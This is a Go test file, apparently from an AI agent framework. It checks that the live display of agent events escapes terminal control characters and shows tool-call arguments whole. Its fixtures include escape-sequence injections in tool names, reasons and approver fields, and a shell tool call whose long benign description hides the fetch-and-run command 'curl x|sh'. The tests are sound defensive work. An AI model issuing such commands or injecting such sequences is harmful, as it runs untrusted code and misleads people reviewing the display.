package render

import (
	"strings"
	"testing"

	"github.com/symbi-dev/symbi/journal"
)

// The live lines of events that carry the model's or a tool's text escape
// control characters, and the model's tool call shows every key however
// long its first value.
func TestLiveEscapesHostileText(t *testing.T) {
	desc := strings.Repeat("benign ", 20)
	for _, tc := range []struct {
		typ, data string
		want      []string
	}{
		{journal.ApprovalRejected, `{"tool":"touch","request_id":"abc","reason":"no proof","approved":true,"by":"lead\u001b[2J"}`,
			[]string{`✗ ignored a decision on touch (abc): no proof, claimed by lead\x1b[2J`}},
		{journal.ApprovalDecided, `{"tool":"touch","approved":false,"reason":"no\u001b]0;pwned\u0007"}`,
			[]string{`✗ not approved touch: no\x1b]0;pwned\a`}},
		{journal.PolicyEvaluated, `{"decisions":[{"action":{"type":"tool_call","tool":"x\u001b[H"},"decision":{"decision":"deny","reason":"unknown"}}]}`,
			[]string{`✗ deny x\x1b[H: unknown`}},
		{journal.ReasoningComplete, `{"tool_calls":[{"name":"shell","arguments":"{\"description\":\"` + desc + `\",\n\n\"cmd\":\"curl x|sh\"}"}]}`,
			[]string{`→ shell {description: "benign`, `cmd: "curl x|sh"}`}},
		{journal.ToolResult, `{"tool":"flaky","error":"exit 1: \u001b[2Jall clear","error_kind":"error"}`,
			[]string{`← flaky failed (error): exit 1: \x1b[2Jall clear`}},
		// Fields shown without a cut are escaped too.
		{journal.ToolResult, `{"tool":"t\u001b[2J","output":"ok"}`,
			[]string{`← t\x1b[2J: ok`}},
		{journal.CandidateSelected, `{"index":-1,"selector":"highest_score","reason":"none\u001b[H\neligible"}`,
			[]string{`✗ no candidate selected: none\x1b[H\neligible`}},
	} {
		lines := Live(journal.Event{Type: tc.typ, Data: []byte(tc.data)}, 0)
		got := strings.Join(lines, "|")
		for _, want := range tc.want {
			if !strings.Contains(got, want) {
				t.Errorf("%s: %q lacks %q", tc.typ, got, want)
			}
		}
		if strings.ContainsAny(got, "\x1b\x07\n") {
			t.Errorf("%s: %q holds a raw control character", tc.typ, got)
		}
	}
}

// Each tool call and each decision is a line of its own; an answer allowed
// by default and the top-level run's start are not shown; a delegate's
// start and a resumed run's are.
func TestLiveLines(t *testing.T) {
	for _, tc := range []struct {
		name  string
		ev    journal.Event
		depth int
		want  []string
	}{
		{"two calls", journal.Event{Type: journal.ReasoningComplete, Data: []byte(`{"model":"model.m","tool_calls":[{"id":"1","name":"a","arguments":"{\"x\":1}"},{"id":"2","name":"b","arguments":"{}"}]}`)}, 0,
			[]string{`→ a {"x":1}`, `→ b {}`}},
		{"an answer", journal.Event{Type: journal.ReasoningComplete, Data: []byte(`{"model":"model.m","content":"hi"}`)}, 0, nil},
		{"decisions", journal.Event{Type: journal.PolicyEvaluated, Data: []byte(`{"decisions":[
			{"action":{"type":"tool_call","tool":"calc"},"decision":{"decision":"allow","reason":"fine","policy":"policy.rules"}},
			{"action":{"type":"respond","content":"x"},"decision":{"decision":"allow"}},
			{"action":{"type":"delegate","target":"agent.b"},"decision":{"decision":"deny","reason":"no","policy":"policy.p"}}],"denied":1}`)}, 0,
			[]string{"✓ allow calc by policy.rules", "✗ deny delegate by policy.p: no"}},
		{"top start", journal.Event{Type: journal.Started, Agent: "agent.a", Data: []byte(`{"agent":"agent.a","input":"go"}`)}, 0, nil},
		{"delegate start", journal.Event{Type: journal.Started, Agent: "agent.b", Data: []byte(`{"agent":"agent.b","input":"go"}`)}, 1, []string{"▸ b"}},
		{"resume", journal.Event{Type: journal.Started, RunID: "r1", Iteration: 2, Data: []byte(`{"input":"go","resume_after_seq":9}`)}, 0,
			[]string{"↻ resuming run r1 after iteration 2"}},
		{"withheld tools", journal.Event{Type: journal.Started, Agent: "agent.a", Data: []byte(`{"agent":"agent.a","input":"go","withheld_tools":[{"tool":"slow\u001b[2J","source":"mcp_server.s","reason":"requires MCP task augmentation"}]}`)}, 0,
			[]string{`⚠ slow\x1b[2J of mcp_server.s is not offered: requires MCP task augmentation`}},
		{"candidate", journal.Event{Type: journal.CandidateScored, Data: []byte(`{"index":2,"score":0.75,"accepted":true}`)}, 0, []string{"◇ candidate 2 score 0.75"}},
		{"routed", journal.Event{Type: journal.ModelRouted, Data: []byte(`{"model":"model.big","rejected":[{"model":"model.small","reason":"too long"}]}`)}, 0, []string{"⇢ model.big (1 rejected)"}},
		{"dispatch", journal.Event{Type: journal.ToolsDispatched, Data: []byte(`{"calls":[{"call_id":"1","tool":"a"}],"concurrency":1}`)}, 0, nil},
	} {
		got := Live(tc.ev, tc.depth)
		if strings.Join(got, "\n") != strings.Join(tc.want, "\n") || len(got) != len(tc.want) {
			t.Errorf("%s: %q, want %q", tc.name, got, tc.want)
		}
	}
}

// The progress of a tool call being written keeps the end of its
// arguments within the width, escaped.
func TestToolCallProgress(t *testing.T) {
	for _, tc := range []struct {
		name, args string
		width      int
		want       string
	}{
		{"search", `{"query":"ot`, 80, `✎ search {"query":"ot`},
		{"search", `{"query":"otters and seals and sea lions"}`, 30, `✎ search …eals and sea lions"}`},
		{"x\u001b[2J", "{\"a\":\"\u0007\"}", 80, `✎ x\x1b[2J {"a":"\a"}`},
	} {
		got := ToolCallProgress(tc.name, tc.args, tc.width)
		if got != tc.want {
			t.Errorf("ToolCallProgress(%q, %q, %d) = %q, want %q", tc.name, tc.args, tc.width, got, tc.want)
		}
		if n := len([]rune(got)); n > tc.width {
			t.Errorf("%q is %d characters, over %d", got, n, tc.width)
		}
	}
}
